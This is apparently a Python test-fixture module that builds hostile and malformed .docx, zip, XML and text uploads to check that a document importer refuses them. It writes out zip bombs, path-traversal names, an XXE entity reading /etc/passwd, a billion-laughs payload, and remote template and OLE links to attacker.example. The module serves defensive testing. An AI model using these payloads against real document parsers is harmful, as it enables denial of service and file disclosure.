"""Hostile and malformed upload files, built in memory for the importer tests.

Each builder returns the bytes of one file. The .docx ones start from a real document made with
python-docx and change one thing, so that a refusal can only come from that one thing.
"""

import io
import random
import struct
import zipfile
from collections.abc import Iterable

import docx

MIB = 1024 * 1024

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
EXCEL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
REL_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE_SIGNATURE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


# --- Building blocks -----------------------------------------------------------------------------


def word_document(*paragraphs: str) -> bytes:
    """A real .docx from python-docx, one paragraph per argument."""
    document = docx.Document()
    for text in paragraphs or ("Interviewer: How did the first week go?",):
        document.add_paragraph(text)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def repack(
    data: bytes,
    *,
    replace: dict[str, bytes] | None = None,
    add: Iterable[tuple[str, bytes]] = (),
    drop: Iterable[str] = (),
    methods: dict[str, int] | None = None,
) -> bytes:
    """The zip rewritten: some members' bytes replaced, some dropped, some added at the end, some
    stored with another compression method."""
    replace, methods, drop = replace or {}, methods or {}, set(drop)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if info.filename in drop:
                continue
            content = replace.get(info.filename, source.read(info))
            method = methods.get(info.filename, zipfile.ZIP_DEFLATED)
            target.writestr(info.filename, content, compress_type=method)
        for name, content in add:
            target.writestr(zipfile.ZipInfo(name), content, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def read_member(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def patch_headers(
    data: bytes, name: str, *, file_size: int | None = None, flag_bits: int | None = None
) -> bytes:
    """Rewrite what a member declares, in both its central directory entry and its local header,
    without touching its data: the lies a hostile zip tells."""
    patched = bytearray(data)
    end = data.rfind(b"PK\x05\x06")
    (directory_offset,) = struct.unpack_from("<L", data, end + 16)
    position = directory_offset
    encoded = name.encode()
    while data[position : position + 4] == b"PK\x01\x02":
        name_length, extra_length, comment_length = struct.unpack_from("<3H", data, position + 28)
        (local,) = struct.unpack_from("<L", data, position + 42)
        if data[position + 46 : position + 46 + name_length] == encoded:
            if file_size is not None:
                struct.pack_into("<L", patched, position + 24, file_size)
                struct.pack_into("<L", patched, local + 22, file_size)
            if flag_bits is not None:
                struct.pack_into("<H", patched, position + 8, flag_bits)
                struct.pack_into("<H", patched, local + 6, flag_bits)
            return bytes(patched)
        position += 46 + name_length + extra_length + comment_length
    raise KeyError(name)


def with_main_content_type(data: bytes, content_type: str) -> bytes:
    types = read_member(data, "[Content_Types].xml").decode()
    return repack(
        data, replace={"[Content_Types].xml": types.replace(WORD_MAIN, content_type).encode()}
    )


def with_document_xml(data: bytes, document_xml: str | bytes) -> bytes:
    content = document_xml.encode() if isinstance(document_xml, str) else document_xml
    return repack(data, replace={"word/document.xml": content})


def with_relationship(data: bytes, part_rels: str, relationship: str) -> bytes:
    """A relationship added to a part's .rels (created if the part has none)."""
    try:
        rels = read_member(data, part_rels).decode()
    except KeyError:
        rels = (
            "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>\n"
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            "</Relationships>"
        )
        new = rels.replace("</Relationships>", relationship + "</Relationships>")
        return repack(data, add=[(part_rels, new.encode())])
    new = rels.replace("</Relationships>", relationship + "</Relationships>")
    return repack(data, replace={part_rels: new.encode()})


def document_xml(body: str, *, namespace: str = W_NS) -> str:
    """A main document part around a body's inner XML."""
    return (
        "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>\n"
        f'<w:document xmlns:w="{namespace}"'
        ' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
        ' xmlns:v="urn:schemas-microsoft-com:vml"'
        ' xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape">'
        f"<w:body>{body}</w:body></w:document>"
    )


# --- Zip-level attacks ---------------------------------------------------------------------------


def zip_bomb() -> bytes:
    """A picture of 8 MiB of zeros that deflates to about 8 KiB: a ratio near 1,000."""
    return repack(word_document(), add=[("word/media/image1.png", bytes(8 * MIB))])


def declared_member_oversize() -> bytes:
    """A member that claims 60 MiB uncompressed."""
    data = repack(word_document(), add=[("word/media/image1.png", b"\x89PNG" + bytes(200))])
    return patch_headers(data, "word/media/image1.png", file_size=60 * MIB)


def declared_total_oversize() -> bytes:
    """Three members of 40 MiB each: none over the member limit, together over the total."""
    data = repack(
        word_document(),
        add=[(f"word/media/image{n}.png", b"\x89PNG" + bytes(200)) for n in (1, 2, 3)],
    )
    for n in (1, 2, 3):
        data = patch_headers(data, f"word/media/image{n}.png", file_size=40 * MIB)
    return data


def understated_size() -> bytes:
    """The main document claims 10 bytes but inflates to more: never trust the declared size."""
    return patch_headers(word_document(), "word/document.xml", file_size=10)


def too_many_members() -> bytes:
    return repack(
        word_document(), add=[(f"customXml/item{n}.xml", b"<a/>") for n in range(2, 1002)]
    )


def path_traversal() -> bytes:
    return repack(word_document(), add=[("word/../../evil.xml", b"<a/>")])


def absolute_path() -> bytes:
    return repack(word_document(), add=[("/etc/cron.d/evil", b"* * * * * root true\n")])


def backslash_name() -> bytes:
    return repack(word_document(), add=[("word\\media\\evil.xml", b"<a/>")])


def duplicate_names() -> bytes:
    """Two members whose names differ only in case: which one a reader takes is anyone's guess."""
    return repack(
        word_document(),
        add=[("Word/Document.xml", read_member(word_document(), "word/document.xml"))],
    )


def encrypted_member() -> bytes:
    return patch_headers(word_document(), "word/document.xml", flag_bits=0x0001)


def bzip2_member() -> bytes:
    return repack(word_document(), methods={"word/document.xml": zipfile.ZIP_BZIP2})


def not_a_zip_after_all() -> bytes:
    """A zip signature, then the file stops."""
    return word_document()[:200]


# --- Package-level attacks -----------------------------------------------------------------------


def macro_enabled() -> bytes:
    return with_main_content_type(word_document(), MACRO_MAIN)


def template() -> bytes:
    return with_main_content_type(word_document(), TEMPLATE_MAIN)


def spreadsheet_main() -> bytes:
    return with_main_content_type(word_document(), EXCEL_MAIN)


def vba_project() -> bytes:
    return repack(word_document(), add=[("word/vbaProject.bin", OLE_SIGNATURE + bytes(504))])


def activex() -> bytes:
    control = (
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"'
        ' ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStreamInit"/>'
    )
    return repack(word_document(), add=[("word/activeX/activeX1.xml", control.encode())])


def ole_embedding() -> bytes:
    return repack(
        word_document(), add=[("word/embeddings/oleObject1.bin", OLE_SIGNATURE + bytes(504))]
    )


def no_content_types() -> bytes:
    return repack(word_document(), drop=["[Content_Types].xml"])


def no_main_document() -> bytes:
    return repack(word_document(), drop=["word/document.xml"])


def malformed_document() -> bytes:
    return with_document_xml(word_document(), "<w:document><w:body><w:p>")


# --- XML attacks ---------------------------------------------------------------------------------


def billion_laughs() -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
        for n in range(1, 10)
    )
    xml = document_xml("<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>").replace(
        "<w:document", f"<!DOCTYPE lolz [{entities}]>\n<w:document", 1
    )
    return with_document_xml(word_document(), xml)


def external_entity() -> bytes:
    """XXE: an entity whose value is a file on the server."""
    xml = document_xml("<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>").replace(
        "<w:document",
        '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<w:document',
        1,
    )
    return with_document_xml(word_document(), xml)


def dtd_in_styles_utf16() -> bytes:
    """A DTD in a part nobody reads for text, encoded in UTF-16 as OPC allows."""
    data = word_document()
    styles = read_member(data, "word/styles.xml").decode()
    styles = styles.replace("encoding='UTF-8'", "encoding='UTF-16'").replace(
        "?>", '?>\n<!DOCTYPE w:styles [<!ENTITY x "y">]>', 1
    )
    return repack(data, replace={"word/styles.xml": styles.encode("utf-16")})


# --- Relationship attacks ------------------------------------------------------------------------


def remote_template() -> bytes:
    """settings.xml attaches a template fetched from the attacker's server when Word opens it."""
    data = word_document()
    settings = read_member(data, "word/settings.xml").decode()
    settings = settings.replace("<w:zoom", '<w:attachedTemplate r:id="rId1"/><w:zoom', 1).replace(
        "<w:settings ",
        f'<w:settings xmlns:r="{REL_TYPES}" ' if 'xmlns:r="' not in settings else "<w:settings ",
        1,
    )
    data = repack(data, replace={"word/settings.xml": settings.encode()})
    return with_relationship(
        data,
        "word/_rels/settings.xml.rels",
        f'<Relationship Id="rId1" Type="{REL_TYPES}/attachedTemplate"'
        ' Target="https://attacker.example/template.dotm" TargetMode="External"/>',
    )


def external_ole_link() -> bytes:
    return with_relationship(
        word_document(),
        "word/_rels/document.xml.rels",
        f'<Relationship Id="rId99" Type="{REL_TYPES}/oleObject"'
        ' Target="\\\\attacker.example\\share\\sheet.xlsx" TargetMode="External"/>',
    )


def external_hyperlink() -> bytes:
    """Not an attack: a link the reader may follow, which Word writes as an external relationship."""
    return with_relationship(
        word_document("See https://example.org for the study."),
        "word/_rels/document.xml.rels",
        f'<Relationship Id="rId99" Type="{REL_TYPES}/hyperlink"'
        ' Target="https://example.org/" TargetMode="External"/>',
    )


# --- Not Word documents at all -------------------------------------------------------------------


def ole_compound_file() -> bytes:
    """The header of an OLE compound file: an encrypted Office document, or an old .doc."""
    return OLE_SIGNATURE + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff" + bytes(482)


def pdf() -> bytes:
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def png() -> bytes:
    header = struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + header + bytes(4)


def binary_junk() -> bytes:
    return random.Random(20240601).randbytes(64 * 1024)  # noqa: S311 - test data, not secrets


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("interview.txt", "Interviewer: Hello.\n")
    return out.getvalue()


def spreadsheet_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


# --- Text ----------------------------------------------------------------------------------------

TRANSCRIPT = (
    "Interviewer: Où étiez-vous ?\r\nParticipant: À Zürich \u2013 \u201cmostly\u201d 😊\r\n"
)


def nul_laden_text() -> bytes:
    """A transcript followed by the NUL padding a crashed editor leaves behind."""
    return TRANSCRIPT.encode() * 20 + bytes(40)


def unknown_encoding_text() -> bytes:
    """Neither UTF-8 nor Windows-1252: 0x81 and 0x8D are undefined there."""
    return b"Interviewer: caf\x81 \x8d\x90\n"
